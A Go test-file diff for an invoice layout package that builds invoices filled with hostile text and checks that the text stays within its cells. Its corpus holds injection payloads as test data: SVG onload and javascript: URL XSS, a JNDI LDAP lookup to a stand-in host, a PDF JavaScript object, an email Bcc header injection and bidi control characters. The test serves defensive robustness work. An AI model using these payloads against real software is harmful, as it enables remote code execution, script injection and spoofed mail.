@@ -1,6 +1,7 @@
 package templates
 
 import (
+	"reflect"
 	"strings"
 	"testing"
 	"time"
@@ -10,11 +11,22 @@ import (
 	"github.com/malgil/malgil/templates/sample"
 )
 
-// hostile is an invoice whose texts are as people and their enemies write them.
+// hostile is an invoice of which every text is as people and their enemies write it.
 func hostile(text string) invoice.Invoice {
 	i := sample.Invoices()[1].Data
-	party := invoice.Party{Number: "1018176293", Name: text, Representative: text, Address: text, Type: text, Item: text, Email: text}
-	i.WalletName, i.Why, i.AmendsNo, i.ApprovalNumber, i.Supplier, i.Recipient = text, text, text, text, party, party
+	var fill func(v reflect.Value)
+	fill = func(v reflect.Value) {
+		switch {
+		case v.Type() == reflect.TypeFor[string]():
+			v.SetString(text)
+		case v.Type() == reflect.TypeFor[time.Time]():
+		case v.Kind() == reflect.Struct:
+			for n := range v.NumField() {
+				fill(v.Field(n))
+			}
+		}
+	}
+	fill(reflect.ValueOf(&i).Elem())
 	i.Supply, i.VAT, i.Messages = 9_999_999_999_999, 999_999_999_999, 1_000_000_000_000
 	return i
 }
@@ -32,6 +44,25 @@ var corpus = map[string]string{
 	"spaces":           " \t  ",
 	"a close of text":  "</text></svg><svg onload=alert(1)>",
 	"an encoded word":  "=?utf-8?B?PHNjcmlwdD4=?=",
+	"a variable":       "${jndi:ldap://x.example} #{7*7} %s %n",
+	"a lone CR":        "한빛\rBcc: x@y.example\v\f\u0085끝",
+	"a mark of Arabic": "abc\u061c\u200e한빛",
+	"PDF":              ") Tj ET endstream endobj 9 0 obj << /S /JavaScript /JS (app.alert(1)) >> (",
+	"a comment":        "<!-- ]]> --> <![CDATA[ <?xml",
+	"an address":       `<a xlink:href="javascript:alert(1)">여기</a> url(https://x.example)`,
+	"broken UTF-8":     "한빛\xff\xc3서점\xed\xa0\x80",
+	"10 kB":            strings.Repeat("한빛 <b> ", 1_000),
+	"10 kB of letters": strings.Repeat("가", 3_400),
+	"many letters":     everySyllable(),
+}
+
+// everySyllable has every letter of the font's Hangul, so that a document embeds all of them.
+func everySyllable() string {
+	var all strings.Builder
+	for r := '가'; r <= '힣'; r++ {
+		all.WriteRune(r)
+	}
+	return all.String()
 }
 
 // Whatever the texts are, each stays within its cell and every cell within the sheet.
@@ -57,7 +88,7 @@ func TestLayOut_staysInItsCells(t *testing.T) {
 					if l.X < c.X-grain || l.X+l.Width > c.X+c.W+grain || l.Y > c.Y+c.H+grain || l.Y-l.Size*pointMM < c.Y-grain {
 						t.Errorf("line %q at %.1f,%.1f, %.1f wide, leaves its cell at %.1f,%.1f of %.1f×%.1f", l.Text, l.X, l.Y, l.Width, c.X, c.Y, c.W, c.H)
 					}
-					if strings.ContainsAny(l.Text, "\n\r\x00\u202e\u2066\u200f\u2028") {
+					if strings.ContainsAny(l.Text, "\n\r\x00\u061c\u200e\u202e\u2066\u200f\u2028") {
 						t.Errorf("line %q holds what turns or breaks text", l.Text)
 					}
 				}
